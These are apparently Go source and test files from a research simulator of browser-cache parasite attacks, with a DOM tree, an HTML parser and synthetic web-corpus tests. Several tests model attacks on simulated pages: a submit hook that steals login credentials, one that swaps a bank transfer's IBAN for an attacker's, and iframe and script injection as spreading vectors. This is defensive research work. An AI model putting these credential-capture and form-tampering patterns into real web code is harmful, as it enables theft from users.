// Element is one node in the document tree.
type Element struct {
	Tag      string
	Attrs    AttrList
	Children []*Element
	Text     string // text content directly inside this element
	parent   *Element
}

// NewElement creates a detached element. The attribute list is
// allocated lazily by the first SetAttr.
func NewElement(tag string) *Element {
	return &Element{Tag: lowerASCII(tag)}
}

// Attr returns an attribute value ("" when absent).
func (e *Element) Attr(name string) string { return e.Attrs.Get(lowerASCII(name)) }

// SetAttr sets an attribute.
func (e *Element) SetAttr(name, value string) {
	e.Attrs = e.Attrs.set(lowerASCII(name), value)
}

// Append adds child to e, detaching it from any previous parent.
func (e *Element) Append(child *Element) {
	if child.parent != nil {
		child.parent.RemoveChild(child)
	}
	child.parent = e
	e.Children = append(e.Children, child)
}

// RemoveChild detaches child from e.
func (e *Element) RemoveChild(child *Element) {
	for i, c := range e.Children {
		if c == child {
			e.Children = append(e.Children[:i], e.Children[i+1:]...)
			child.parent = nil
			return
		}
	}
}

// Parent returns the parent element (nil for roots).
func (e *Element) Parent() *Element { return e.parent }

// Walk visits e and every descendant in document order.
func (e *Element) Walk(fn func(*Element)) {
	fn(e)
	for _, c := range e.Children {
		c.Walk(fn)
	}
}

// Find returns all descendants (including e) matching pred.
func (e *Element) Find(pred func(*Element) bool) []*Element {
	var out []*Element
	e.Walk(func(el *Element) {
		if pred(el) {
			out = append(out, el)
		}
	})
	return out
}

// TextContent concatenates the element's text and all descendant text.
func (e *Element) TextContent() string {
	var b strings.Builder
	e.Walk(func(el *Element) { b.WriteString(el.Text) })
	return b.String()
}

// Document is a parsed page.
type Document struct {
	URL  string
	Root *Element

	// Both hook maps are allocated lazily on first registration: most
	// parsed documents (every page of a crawl) never hook anything.
	submitHooks map[string][]SubmitHook // form id → hooks (parasite's hooks run first)
	onSubmit    map[string]func(map[string]string)
}

// SubmitHook observes and may mutate form values before native submission.
// Returning false cancels the submission — used by the transaction-
// manipulation attack to swap in the attacker's transfer while showing the
// user their own (§VII).
type SubmitHook func(values map[string]string) bool

// NewDocument creates an empty document with the html/head/body skeleton.
func NewDocument(url string) *Document {
	root := NewElement("html")
	root.Append(NewElement("head"))
	root.Append(NewElement("body"))
	return &Document{URL: url, Root: root}
}

// Head returns the <head> element.
func (d *Document) Head() *Element {
	els := d.Root.Find(func(e *Element) bool { return e.Tag == "head" })
	if len(els) == 0 {
		h := NewElement("head")
		d.Root.Append(h)
		return h
	}
	return els[0]
}

// Body returns the <body> element.
func (d *Document) Body() *Element {
	els := d.Root.Find(func(e *Element) bool { return e.Tag == "body" })
	if len(els) == 0 {
		b := NewElement("body")
		d.Root.Append(b)
		return b
	}
	return els[0]
}

// FindByID returns the first element with the given id.
func (d *Document) FindByID(id string) *Element {
	els := d.Root.Find(func(e *Element) bool { return e.Attr("id") == id })
	if len(els) == 0 {
		return nil
	}
	return els[0]
}

// FindByTag returns all elements with the given tag.
func (d *Document) FindByTag(tag string) []*Element {
	tag = strings.ToLower(tag)
	return d.Root.Find(func(e *Element) bool { return e.Tag == tag })
}

// ResourceKind classifies subresources a page pulls in.
type ResourceKind int

// Resource kinds, in the order a loader fetches them.
const (
	ResScript ResourceKind = iota + 1
	ResImage
	ResStylesheet
	ResIframe
)

// String names the kind.
func (k ResourceKind) String() string {
	switch k {
	case ResScript:
		return "script"
	case ResImage:
		return "img"
	case ResStylesheet:
		return "stylesheet"
	case ResIframe:
		return "iframe"
	default:
		return "unknown"
	}
}

// Resource is one subresource reference found in the document.
type Resource struct {
	Kind ResourceKind
	URL  string
	El   *Element
}

// Resources lists subresource references in document order.
func (d *Document) Resources() []Resource {
	var out []Resource
	d.Root.Walk(func(e *Element) {
		switch e.Tag {
		case "script":
			if src := e.Attr("src"); src != "" {
				out = append(out, Resource{Kind: ResScript, URL: src, El: e})
			}
		case "img":
			if src := e.Attr("src"); src != "" {
				out = append(out, Resource{Kind: ResImage, URL: src, El: e})
			}
		case "link":
			if e.Attr("rel") == "stylesheet" && e.Attr("href") != "" {
				out = append(out, Resource{Kind: ResStylesheet, URL: e.Attr("href"), El: e})
			}
		case "iframe":
			if src := e.Attr("src"); src != "" {
				out = append(out, Resource{Kind: ResIframe, URL: src, El: e})
			}
		}
	})
	return out
}

// Forms returns all form elements.
func (d *Document) Forms() []*Element { return d.FindByTag("form") }

// FormValues collects the input name→value pairs of a form element.
func FormValues(form *Element) map[string]string {
	values := make(map[string]string)
	form.Walk(func(e *Element) {
		if e.Tag == "input" || e.Tag == "textarea" || e.Tag == "select" {
			if name := e.Attr("name"); name != "" {
				values[name] = e.Attr("value")
			}
		}
	})
	return values
}

// SetFormValue sets the value of the named input inside form.
func SetFormValue(form *Element, name, value string) bool {
	ok := false
	form.Walk(func(e *Element) {
		if (e.Tag == "input" || e.Tag == "textarea") && e.Attr("name") == name {
			e.SetAttr("value", value)
			ok = true
		}
	})
	return ok
}

// HookSubmit registers a hook that runs before native submission of the
// form with the given id. Hooks run in registration order; any hook
// returning false cancels the submission.
func (d *Document) HookSubmit(formID string, hook SubmitHook) {
	if d.submitHooks == nil {
		d.submitHooks = make(map[string][]SubmitHook)
	}
	d.submitHooks[formID] = append(d.submitHooks[formID], hook)
}

// OnSubmit installs the application's native submit handler for a form.
func (d *Document) OnSubmit(formID string, fn func(values map[string]string)) {
	if d.onSubmit == nil {
		d.onSubmit = make(map[string]func(map[string]string))
	}
	d.onSubmit[formID] = fn
}

// Submit simulates the user submitting the form: hooks observe/mutate the
// values, then the native handler receives the (possibly mutated) result.
// It returns the values actually submitted and whether submission ran.
func (d *Document) Submit(formID string) (map[string]string, bool, error) {
	form := d.FindByID(formID)
	if form == nil || form.Tag != "form" {
		return nil, false, fmt.Errorf("dom: no form with id %q", formID)
	}
	values := FormValues(form)
	for _, hook := range d.submitHooks[formID] {
		if !hook(values) {
			return values, false, nil
		}
	}
	if fn, ok := d.onSubmit[formID]; ok && fn != nil {
		fn(values)
	}
	return values, true, nil
}

// HTML serialises the document.
func (d *Document) HTML() []byte {
	var b bytes.Buffer
	writeElement(&b, d.Root)
	return b.Bytes()
}

func writeElement(b *bytes.Buffer, e *Element) {
	b.WriteByte('<')
	b.WriteString(e.Tag)
	attrs := make(AttrList, len(e.Attrs))
	copy(attrs, e.Attrs)
	sort.Slice(attrs, func(i, j int) bool { return attrs[i].Key < attrs[j].Key })
	for _, a := range attrs {
		fmt.Fprintf(b, " %s=%q", a.Key, a.Value)
	}
	b.WriteByte('>')
	if voidTags[e.Tag] {
		return
	}
	b.WriteString(e.Text)
	for _, c := range e.Children {
		writeElement(b, c)
	}
	fmt.Fprintf(b, "</%s>", e.Tag)
}
