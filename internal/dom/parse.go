package dom

import (
	"strings"
)

// ParseHTML builds a document from HTML bytes. The parser is tolerant:
// unclosed tags are closed at end of input, mismatched closers pop to the
// nearest matching ancestor, and attribute values may be quoted with
// single quotes, double quotes, or nothing. It is sufficient for the
// synthetic corpus and the simulated applications — and, importantly, for
// whatever bytes an attacker injects.
func ParseHTML(url string, content []byte) *Document {
	d := &Document{URL: url,
		submitHooks: make(map[string][]SubmitHook),
		onSubmit:    make(map[string]func(map[string]string))}
	root := NewElement("html")
	d.Root = root

	stack := []*Element{root}
	top := func() *Element { return stack[len(stack)-1] }

	s := string(content)
	i := 0
	for i < len(s) {
		lt := strings.IndexByte(s[i:], '<')
		if lt < 0 {
			top().Text += s[i:]
			break
		}
		if lt > 0 {
			top().Text += s[i : i+lt]
			i += lt
		}
		gt := strings.IndexByte(s[i:], '>')
		if gt < 0 {
			top().Text += s[i:]
			break
		}
		tag := s[i+1 : i+gt]
		i += gt + 1
		switch {
		case strings.HasPrefix(tag, "!--"):
			// Comment: skip to the closing marker if the '>' we found was
			// not it.
			if !strings.HasSuffix(tag, "--") {
				if end := strings.Index(s[i:], "-->"); end >= 0 {
					i += end + 3
				} else {
					i = len(s)
				}
			}
		case strings.HasPrefix(tag, "!"):
			// Doctype: ignore.
		case strings.HasPrefix(tag, "/"):
			name := strings.ToLower(strings.TrimSpace(tag[1:]))
			for n := len(stack) - 1; n > 0; n-- {
				if stack[n].Tag == name {
					stack = stack[:n]
					break
				}
			}
		default:
			selfClose := strings.HasSuffix(tag, "/")
			if selfClose {
				tag = strings.TrimSuffix(tag, "/")
			}
			el := parseTag(tag)
			if el == nil {
				continue
			}
			if el.Tag == "html" {
				// Merge attributes into the existing root instead of
				// nesting a second html element.
				for k, v := range el.Attrs {
					root.SetAttr(k, v)
				}
				continue
			}
			top().Append(el)
			if el.Tag == "script" {
				// Raw-text element: consume everything to </script>.
				if end := strings.Index(strings.ToLower(s[i:]), "</script>"); end >= 0 {
					el.Text = s[i : i+end]
					i += end + len("</script>")
				} else {
					el.Text = s[i:]
					i = len(s)
				}
				continue
			}
			if !selfClose && !voidTags[el.Tag] {
				stack = append(stack, el)
			}
		}
	}
	return d
}

// parseTag parses "name attr=val attr2='v'" into an element.
func parseTag(raw string) *Element {
	raw = strings.TrimSpace(raw)
	if raw == "" {
		return nil
	}
	nameEnd := strings.IndexAny(raw, " \t\n\r")
	name := raw
	rest := ""
	if nameEnd >= 0 {
		name = raw[:nameEnd]
		rest = raw[nameEnd:]
	}
	el := NewElement(name)
	parseAttrs(el, rest)
	return el
}

func parseAttrs(el *Element, s string) {
	i := 0
	for i < len(s) {
		// Skip whitespace.
		for i < len(s) && (s[i] == ' ' || s[i] == '\t' || s[i] == '\n' || s[i] == '\r') {
			i++
		}
		if i >= len(s) {
			return
		}
		// Attribute name.
		start := i
		for i < len(s) && s[i] != '=' && s[i] != ' ' && s[i] != '\t' {
			i++
		}
		name := s[start:i]
		if name == "" {
			i++
			continue
		}
		// Optional value.
		value := ""
		if i < len(s) && s[i] == '=' {
			i++
			if i < len(s) && (s[i] == '"' || s[i] == '\'') {
				quote := s[i]
				i++
				vstart := i
				for i < len(s) && s[i] != quote {
					i++
				}
				value = s[vstart:i]
				if i < len(s) {
					i++
				}
			} else {
				vstart := i
				for i < len(s) && s[i] != ' ' && s[i] != '\t' {
					i++
				}
				value = s[vstart:i]
			}
		}
		el.SetAttr(name, value)
	}
}
