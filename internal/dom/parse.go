package dom

import (
	"strings"
)

// ParseHTML builds a document from HTML bytes. The parser is tolerant:
// unclosed tags are closed at end of input, mismatched closers pop to the
// nearest matching ancestor, and attribute values may be quoted with
// single quotes, double quotes, or nothing. It is sufficient for the
// synthetic corpus and the simulated applications — and, importantly, for
// whatever bytes an attacker injects.
//
// The tokenizer is a single pass over one string conversion of the
// input: every tag name, attribute, and text fragment is a substring of
// that one allocation, elements come from a chunked arena, and
// lowercasing/case-folding never allocates on the (overwhelmingly
// common) already-lowercase path.
func ParseHTML(url string, content []byte) *Document {
	d := &Document{URL: url}
	var arena elemArena
	var attrs attrWriter
	root := arena.new("html")
	d.Root = root

	stack := []*Element{root}
	top := func() *Element { return stack[len(stack)-1] }

	s := string(content)
	i := 0
	for i < len(s) {
		lt := strings.IndexByte(s[i:], '<')
		if lt < 0 {
			top().Text += s[i:]
			break
		}
		if lt > 0 {
			top().Text += s[i : i+lt]
			i += lt
		}
		gt := strings.IndexByte(s[i:], '>')
		if gt < 0 {
			top().Text += s[i:]
			break
		}
		tag := s[i+1 : i+gt]
		i += gt + 1
		switch {
		case strings.HasPrefix(tag, "!--"):
			// Comment: skip to the closing marker if the '>' we found was
			// not it.
			if !strings.HasSuffix(tag, "--") {
				if end := strings.Index(s[i:], "-->"); end >= 0 {
					i += end + 3
				} else {
					i = len(s)
				}
			}
		case strings.HasPrefix(tag, "!"):
			// Doctype: ignore.
		case strings.HasPrefix(tag, "/"):
			name := strings.TrimSpace(tag[1:])
			for n := len(stack) - 1; n > 0; n-- {
				// ASCII fold only, matching the </script> scan: Unicode
				// fold pairs must not close an element.
				if len(stack[n].Tag) == len(name) && foldEq(stack[n].Tag, name) {
					stack = stack[:n]
					break
				}
			}
		default:
			selfClose := strings.HasSuffix(tag, "/")
			if selfClose {
				tag = strings.TrimSuffix(tag, "/")
			}
			el := parseTag(&arena, &attrs, tag)
			if el == nil {
				continue
			}
			if el.Tag == "html" {
				// Merge attributes into the existing root instead of
				// nesting a second html element.
				for _, a := range el.Attrs {
					root.SetAttr(a.Key, a.Value)
				}
				continue
			}
			top().Append(el)
			if el.Tag == "script" {
				// Raw-text element: consume everything to </script>.
				if end := indexFold(s[i:], "</script>"); end >= 0 {
					el.Text = s[i : i+end]
					i += end + len("</script>")
				} else {
					el.Text = s[i:]
					i = len(s)
				}
				continue
			}
			if !selfClose && !voidTags[el.Tag] {
				stack = append(stack, el)
			}
		}
	}
	return d
}

// arenaChunk is how many elements one arena allocation holds; a typical
// corpus page has a few dozen.
const arenaChunk = 32

// elemArena hands out elements from chunked backing arrays, so a parse
// costs O(elements/arenaChunk) element allocations instead of one per
// element. Chunks are never appended past capacity, so handed-out
// pointers stay valid.
type elemArena struct {
	buf []Element
}

func (a *elemArena) new(tag string) *Element {
	if len(a.buf) == cap(a.buf) {
		a.buf = make([]Element, 0, arenaChunk)
	}
	a.buf = a.buf[:len(a.buf)+1]
	el := &a.buf[len(a.buf)-1]
	el.Tag = tag
	return el
}

// lowerASCII returns s lowercased, allocating only when s actually
// contains an upper-case ASCII letter.
func lowerASCII(s string) string {
	for i := 0; i < len(s); i++ {
		if c := s[i]; 'A' <= c && c <= 'Z' {
			return strings.ToLower(s)
		}
	}
	return s
}

// indexFold returns the index of the first ASCII-case-insensitive
// occurrence of sep in s, without lowercasing (and thus copying) s.
func indexFold(s, sep string) int {
	if len(sep) == 0 {
		return 0
	}
	for i := 0; i+len(sep) <= len(s); i++ {
		if foldEq(s[i:i+len(sep)], sep) {
			return i
		}
	}
	return -1
}

// foldEq reports whether two equal-length strings match ignoring ASCII
// case.
func foldEq(a, b string) bool {
	for i := 0; i < len(a); i++ {
		ca, cb := a[i], b[i]
		if 'A' <= ca && ca <= 'Z' {
			ca += 'a' - 'A'
		}
		if 'A' <= cb && cb <= 'Z' {
			cb += 'a' - 'A'
		}
		if ca != cb {
			return false
		}
	}
	return true
}

// attrChunk is how many attributes one arena allocation holds, and
// attrReserve the headroom begin guarantees a single element — elements
// with at most attrReserve attributes never migrate chunks.
const (
	attrChunk   = 64
	attrReserve = 8
)

// attrWriter carves per-element AttrLists out of chunked backing
// arrays. Handed-out lists are full-capacity subslices, so a later
// SetAttr on the element reallocates instead of clobbering a
// neighbouring element's attributes.
type attrWriter struct {
	buf   []Attr
	start int // where the current element's attributes begin
}

// begin opens a new element, rolling to a fresh chunk when the current
// one cannot fit a typical element.
func (w *attrWriter) begin() {
	if cap(w.buf)-len(w.buf) < attrReserve {
		w.buf = make([]Attr, 0, attrChunk)
	}
	w.start = len(w.buf)
}

// add appends one attribute for the current element, updating in place
// on a duplicate key. An element overflowing its chunk migrates to a
// fresh one so its list stays contiguous.
func (w *attrWriter) add(key, value string) {
	for i := w.start; i < len(w.buf); i++ {
		if w.buf[i].Key == key {
			w.buf[i].Value = value
			return
		}
	}
	if len(w.buf) == cap(w.buf) {
		nbuf := make([]Attr, len(w.buf)-w.start, cap(w.buf)*2)
		copy(nbuf, w.buf[w.start:])
		w.buf = nbuf
		w.start = 0
	}
	w.buf = append(w.buf, Attr{Key: key, Value: value})
}

// finish closes the current element and returns its (possibly empty)
// attribute list.
func (w *attrWriter) finish() AttrList {
	if len(w.buf) == w.start {
		return nil
	}
	return w.buf[w.start:len(w.buf):len(w.buf)]
}

// parseTag parses "name attr=val attr2='v'" into an element.
func parseTag(arena *elemArena, attrs *attrWriter, raw string) *Element {
	raw = strings.TrimSpace(raw)
	if raw == "" {
		return nil
	}
	nameEnd := strings.IndexAny(raw, " \t\n\r")
	name := raw
	rest := ""
	if nameEnd >= 0 {
		name = raw[:nameEnd]
		rest = raw[nameEnd:]
	}
	el := arena.new(lowerASCII(name))
	if rest != "" {
		attrs.begin()
		parseAttrs(attrs, rest)
		el.Attrs = attrs.finish()
	}
	return el
}

func parseAttrs(w *attrWriter, s string) {
	i := 0
	for i < len(s) {
		// Skip whitespace.
		for i < len(s) && (s[i] == ' ' || s[i] == '\t' || s[i] == '\n' || s[i] == '\r') {
			i++
		}
		if i >= len(s) {
			return
		}
		// Attribute name.
		start := i
		for i < len(s) && s[i] != '=' && s[i] != ' ' && s[i] != '\t' {
			i++
		}
		name := s[start:i]
		if name == "" {
			i++
			continue
		}
		// Optional value.
		value := ""
		if i < len(s) && s[i] == '=' {
			i++
			if i < len(s) && (s[i] == '"' || s[i] == '\'') {
				quote := s[i]
				i++
				vstart := i
				for i < len(s) && s[i] != quote {
					i++
				}
				value = s[vstart:i]
				if i < len(s) {
					i++
				}
			} else {
				vstart := i
				for i < len(s) && s[i] != ' ' && s[i] != '\t' {
					i++
				}
				value = s[vstart:i]
			}
		}
		w.add(lowerASCII(name), value)
	}
}
