package dom

import (
	"strings"
	"testing"
)

const samplePage = `<!DOCTYPE html>
<html lang="en">
<head>
  <title>Bank</title>
  <link rel="stylesheet" href="/css/main.css">
  <script src="/js/app.js"></script>
</head>
<body>
  <img src="/img/logo.png" id="logo">
  <form id="login" action="/login">
    <input name="user" value="">
    <input name="pass" type="password" value="">
  </form>
  <iframe src="https://ads.example/frame"></iframe>
  <script>inline();</script>
  <div id="balance">1,234.56 EUR</div>
</body>
</html>`

func TestParseResources(t *testing.T) {
	d := ParseHTML("bank.com/", []byte(samplePage))
	res := d.Resources()
	var kinds []string
	for _, r := range res {
		kinds = append(kinds, r.Kind.String()+":"+r.URL)
	}
	want := []string{
		"stylesheet:/css/main.css",
		"script:/js/app.js",
		"img:/img/logo.png",
		"iframe:https://ads.example/frame",
	}
	if strings.Join(kinds, ",") != strings.Join(want, ",") {
		t.Fatalf("resources = %v, want %v", kinds, want)
	}
}

func TestParseInlineScriptText(t *testing.T) {
	d := ParseHTML("x", []byte(samplePage))
	scripts := d.FindByTag("script")
	if len(scripts) != 2 {
		t.Fatalf("scripts = %d, want 2", len(scripts))
	}
	if scripts[1].Text != "inline();" {
		t.Fatalf("inline text = %q", scripts[1].Text)
	}
}

func TestParseAttributeStyles(t *testing.T) {
	d := ParseHTML("x", []byte(`<body><img src='a.png'><input name=user value="v&x"></body>`))
	imgs := d.FindByTag("img")
	if len(imgs) != 1 || imgs[0].Attr("src") != "a.png" {
		t.Fatalf("single-quoted attr: %+v", imgs)
	}
	inputs := d.FindByTag("input")
	if len(inputs) != 1 || inputs[0].Attr("name") != "user" || inputs[0].Attr("value") != "v&x" {
		t.Fatalf("mixed attrs: %+v", inputs)
	}
}

func TestParseUnclosedTags(t *testing.T) {
	d := ParseHTML("x", []byte(`<body><div id="a"><p>text`))
	if d.FindByID("a") == nil {
		t.Fatal("unclosed div lost")
	}
	if !strings.Contains(d.Root.TextContent(), "text") {
		t.Fatal("trailing text lost")
	}
}

func TestParseComments(t *testing.T) {
	d := ParseHTML("x", []byte(`<body><!-- <script src="/evil.js"></script> --><div id="d"></div></body>`))
	if len(d.Resources()) != 0 {
		t.Fatal("commented-out resource parsed")
	}
	if d.FindByID("d") == nil {
		t.Fatal("element after comment lost")
	}
}

func TestFindByIDAndTag(t *testing.T) {
	d := ParseHTML("x", []byte(samplePage))
	if el := d.FindByID("balance"); el == nil || el.TextContent() != "1,234.56 EUR" {
		t.Fatalf("FindByID(balance) = %+v", el)
	}
	if d.FindByID("nope") != nil {
		t.Fatal("phantom element")
	}
	if len(d.FindByTag("input")) != 2 {
		t.Fatal("FindByTag(input) wrong")
	}
}

func TestFormValuesAndSetValue(t *testing.T) {
	d := ParseHTML("x", []byte(samplePage))
	form := d.FindByID("login")
	SetFormValue(form, "user", "alice")
	SetFormValue(form, "pass", "hunter2")
	v := FormValues(form)
	if v["user"] != "alice" || v["pass"] != "hunter2" {
		t.Fatalf("values = %v", v)
	}
	if SetFormValue(form, "ghost", "x") {
		t.Fatal("SetFormValue invented an input")
	}
}

func TestSubmitHookObservesCredentials(t *testing.T) {
	// The credential-stealing attack of Table V: a parasite hook sees the
	// submitted values before the application does.
	d := ParseHTML("bank.com/login", []byte(samplePage))
	form := d.FindByID("login")
	SetFormValue(form, "user", "alice")
	SetFormValue(form, "pass", "s3cr3t")

	var stolen map[string]string
	d.HookSubmit("login", func(values map[string]string) bool {
		stolen = map[string]string{"user": values["user"], "pass": values["pass"]}
		return true
	})
	var native map[string]string
	d.OnSubmit("login", func(values map[string]string) { native = values })

	if _, ok, err := d.Submit("login"); err != nil || !ok {
		t.Fatalf("submit: ok=%v err=%v", ok, err)
	}
	if stolen["pass"] != "s3cr3t" {
		t.Fatalf("hook saw %v", stolen)
	}
	if native["pass"] != "s3cr3t" {
		t.Fatal("native handler not reached")
	}
}

func TestSubmitHookMutatesValues(t *testing.T) {
	// Transaction manipulation (Table V): the user sees their intended
	// transfer; the bank receives the attacker's.
	d := NewDocument("bank.com/transfer")
	form := NewElement("form")
	form.SetAttr("id", "transfer")
	iban := NewElement("input")
	iban.SetAttr("name", "iban")
	iban.SetAttr("value", "DE11 USER")
	form.Append(iban)
	d.Body().Append(form)

	d.HookSubmit("transfer", func(values map[string]string) bool {
		values["iban"] = "XX99 ATTACKER"
		return true
	})
	var received string
	d.OnSubmit("transfer", func(values map[string]string) { received = values["iban"] })
	if _, ok, err := d.Submit("transfer"); err != nil || !ok {
		t.Fatalf("submit failed: %v", err)
	}
	if received != "XX99 ATTACKER" {
		t.Fatalf("bank received %q", received)
	}
}

func TestSubmitHookCancels(t *testing.T) {
	d := NewDocument("x")
	form := NewElement("form")
	form.SetAttr("id", "f")
	d.Body().Append(form)
	d.HookSubmit("f", func(map[string]string) bool { return false })
	ran := false
	d.OnSubmit("f", func(map[string]string) { ran = true })
	_, ok, err := d.Submit("f")
	if err != nil {
		t.Fatal(err)
	}
	if ok || ran {
		t.Fatal("cancelled submission still ran")
	}
}

func TestSubmitUnknownForm(t *testing.T) {
	d := NewDocument("x")
	if _, _, err := d.Submit("ghost"); err == nil {
		t.Fatal("submit of unknown form succeeded")
	}
}

func TestAppendRemoveReparent(t *testing.T) {
	d := NewDocument("x")
	a := NewElement("div")
	b := NewElement("div")
	d.Body().Append(a)
	a.Append(b)
	if b.Parent() != a {
		t.Fatal("parent wrong")
	}
	d.Body().Append(b) // reparent
	if b.Parent() != d.Body() || len(a.Children) != 0 {
		t.Fatal("reparent failed")
	}
	d.Body().RemoveChild(b)
	if b.Parent() != nil {
		t.Fatal("remove failed")
	}
}

func TestHTMLSerializationRoundTrip(t *testing.T) {
	d := NewDocument("x")
	img := NewElement("img")
	img.SetAttr("src", "cdn.com/track.svg")
	d.Body().Append(img)
	out := ParseHTML("x", d.HTML())
	res := out.Resources()
	if len(res) != 1 || res[0].URL != "cdn.com/track.svg" {
		t.Fatalf("round trip resources = %v", res)
	}
}

func TestInjectedScriptBeforeBodyClose(t *testing.T) {
	// §VI-A: for HTML files a <script> tag is inserted before </body>.
	d := ParseHTML("x", []byte(samplePage))
	script := NewElement("script")
	script.SetAttr("src", "/js/app.js?parasite=1")
	d.Body().Append(script)
	res := d.Resources()
	last := res[len(res)-1]
	if last.Kind != ResScript || last.URL != "/js/app.js?parasite=1" {
		t.Fatalf("injected script not last: %v", res)
	}
}

func TestIframePropagationVector(t *testing.T) {
	// §VI-B1: the parasite loads target domains via iframes into the DOM;
	// the loader will fetch all of their resources.
	d := NewDocument("infected.com/")
	for _, target := range []string{"bank.com/", "mail.com/"} {
		f := NewElement("iframe")
		f.SetAttr("src", target)
		d.Body().Append(f)
	}
	res := d.Resources()
	if len(res) != 2 || res[0].Kind != ResIframe || res[1].Kind != ResIframe {
		t.Fatalf("iframes = %v", res)
	}
}

func TestResourceKindString(t *testing.T) {
	for k, want := range map[ResourceKind]string{
		ResScript: "script", ResImage: "img", ResStylesheet: "stylesheet",
		ResIframe: "iframe", ResourceKind(0): "unknown",
	} {
		if k.String() != want {
			t.Errorf("kind %d = %q, want %q", k, k.String(), want)
		}
	}
}

// TestParseHTMLAllocs locks in the tokenizer's allocation budget so the
// crawl hot path cannot silently regress toward one-map-per-element
// parsing. Skipped in -short mode: the CI race detector perturbs
// allocation counts.
func TestParseHTMLAllocs(t *testing.T) {
	if testing.Short() {
		t.Skip("allocation counts shift under -race; tier-1 runs this")
	}
	page := []byte(samplePage)
	got := testing.AllocsPerRun(200, func() {
		if d := ParseHTML("bank.com/", page); d == nil {
			t.Fatal("nil document")
		}
	})
	// Measured ~31 on go1.24 — input copy, document, element/attr arena
	// chunks, tree appends, and one concat per interleaved text fragment
	// (this page is whitespace-heavy; a dense corpus page parses in ~14).
	// The historical one-map-per-element parser took twice that.
	if got > 35 {
		t.Errorf("ParseHTML allocs/op = %.0f, want <= 35", got)
	}
}

func TestAttrListSemantics(t *testing.T) {
	el := NewElement("div")
	el.SetAttr("ID", "a")
	el.SetAttr("id", "b") // same key after folding: overwrite, not append
	el.SetAttr("class", "c")
	if got := el.Attr("Id"); got != "b" {
		t.Fatalf("Attr(Id) = %q, want %q", got, "b")
	}
	if len(el.Attrs) != 2 {
		t.Fatalf("attrs = %v, want 2 entries", el.Attrs)
	}
	if el.Attrs.Get("missing") != "" {
		t.Fatal("missing key not empty")
	}
}

// TestParsedElementSetAttrDoesNotClobberSiblings pins the attr-arena
// safety property: growing one parsed element's attribute list must not
// overwrite a neighbouring element's attributes in the shared chunk.
func TestParsedElementSetAttrDoesNotClobberSiblings(t *testing.T) {
	d := ParseHTML("x", []byte(`<body><img src="a.png"><img src="b.png"></body>`))
	imgs := d.FindByTag("img")
	if len(imgs) != 2 {
		t.Fatalf("imgs = %d", len(imgs))
	}
	imgs[0].SetAttr("alt", "first") // append grows the first list
	imgs[0].SetAttr("id", "i0")
	if got := imgs[1].Attr("src"); got != "b.png" {
		t.Fatalf("sibling src = %q after neighbour SetAttr, want b.png", got)
	}
	if imgs[1].Attr("alt") != "" {
		t.Fatal("sibling gained a foreign attribute")
	}
}

func TestHeadAndBodyAutoCreate(t *testing.T) {
	d := &Document{URL: "x", Root: NewElement("html"),
		submitHooks: map[string][]SubmitHook{},
		onSubmit:    map[string]func(map[string]string){}}
	if d.Head() == nil || d.Body() == nil {
		t.Fatal("auto-create failed")
	}
	if len(d.FindByTag("head")) != 1 || len(d.FindByTag("body")) != 1 {
		t.Fatal("duplicate auto-created elements")
	}
}
