package webcorpus

import (
	"fmt"
	"strings"
	"testing"
	"testing/quick"
)

func TestGenerateDefaultSize(t *testing.T) {
	c := Generate(Params{Seed: 1, Sites: 100})
	if len(c.Sites) != 100 {
		t.Fatalf("sites = %d", len(c.Sites))
	}
	if Generate(Params{Seed: 1}).Params.Sites != DefaultSites {
		t.Fatal("default size not applied")
	}
}

func TestSiteFieldsPopulated(t *testing.T) {
	c := Generate(Params{Sites: 500, Seed: 2})
	sslSeen := make(map[SSLVersion]int)
	for _, s := range c.Sites {
		if s.Host == "" || s.Rank == 0 {
			t.Fatalf("bad site %+v", s)
		}
		sslSeen[s.SSL]++
		if s.HSTS && s.SSL == SSLNone {
			t.Fatal("HSTS on a plaintext site")
		}
		if s.HSTSPreload && !s.HSTS {
			t.Fatal("preloaded without HSTS")
		}
		if s.CSP.Present && s.CSP.HeaderName == "" {
			t.Fatal("CSP present without header name")
		}
	}
	for _, v := range []SSLVersion{SSLNone, SSLv2, SSLv3, TLSModern} {
		if sslSeen[v] == 0 {
			t.Errorf("SSL class %s never generated", v)
		}
	}
}

func TestObjectsOnDayZeroStable(t *testing.T) {
	s := Generate(Params{Sites: 30, Seed: 4}).Sites[0]
	a := s.ObjectsOn(0)
	b := s.ObjectsOn(0)
	if len(a) != len(b) {
		t.Fatal("nondeterministic object count")
	}
	for i := range a {
		if a[i] != b[i] {
			t.Fatal("nondeterministic object state")
		}
	}
}

func TestEternalObjectsKeepNameForever(t *testing.T) {
	c := Generate(Params{Sites: 200, Seed: 5})
	checked := 0
	for _, s := range c.Sites {
		for i, spec := range s.Objects {
			if spec.Kind != KindJS || spec.RenamePeriod != 0 {
				continue
			}
			checked++
			n0 := s.ObjectsOn(0)[i].Name
			n999 := s.ObjectsOn(999)[i].Name
			if n0 != n999 {
				t.Fatalf("eternal object renamed: %s -> %s", n0, n999)
			}
		}
	}
	if checked == 0 {
		t.Fatal("no eternal objects generated")
	}
}

func TestPeriodicRenameChangesAtPeriod(t *testing.T) {
	c := Generate(Params{Sites: 200, Seed: 6})
	for _, s := range c.Sites {
		for i, spec := range s.Objects {
			if spec.RenamePeriod == 0 {
				continue
			}
			before := s.ObjectsOn(spec.RenamePeriod - 1)[i].Name
			after := s.ObjectsOn(spec.RenamePeriod)[i].Name
			if before == after {
				t.Fatalf("object not renamed at its period %d", spec.RenamePeriod)
			}
			return // one positive case suffices
		}
	}
	t.Fatal("no periodic objects generated")
}

func TestContentChangeChangesHashOnly(t *testing.T) {
	c := Generate(Params{Sites: 300, Seed: 7})
	for _, s := range c.Sites {
		for i, spec := range s.Objects {
			if spec.RenamePeriod != 0 || spec.ContentPeriod == 0 {
				continue
			}
			o1 := s.ObjectsOn(spec.ContentPeriod - 1)[i]
			o2 := s.ObjectsOn(spec.ContentPeriod)[i]
			if o1.Name != o2.Name {
				t.Fatal("name changed with content")
			}
			if o1.Hash == o2.Hash {
				t.Fatal("hash unchanged across content period")
			}
			return
		}
	}
	t.Skip("no name-stable content-churning objects in this seed")
}

func TestRenderPageListsObjects(t *testing.T) {
	c := Generate(Params{Sites: 50, Seed: 8})
	var site *Site
	for _, s := range c.Sites {
		if s.Responds {
			site = s
			break
		}
	}
	if site == nil {
		t.Fatal("no responders")
	}
	resp := site.RenderPage(3)
	if resp.StatusCode != 200 {
		t.Fatal("responder served non-200")
	}
	body := string(resp.Body)
	for _, o := range site.ObjectsOn(3) {
		if !strings.Contains(body, o.Name) {
			t.Fatalf("page missing object %s", o.Name)
		}
	}
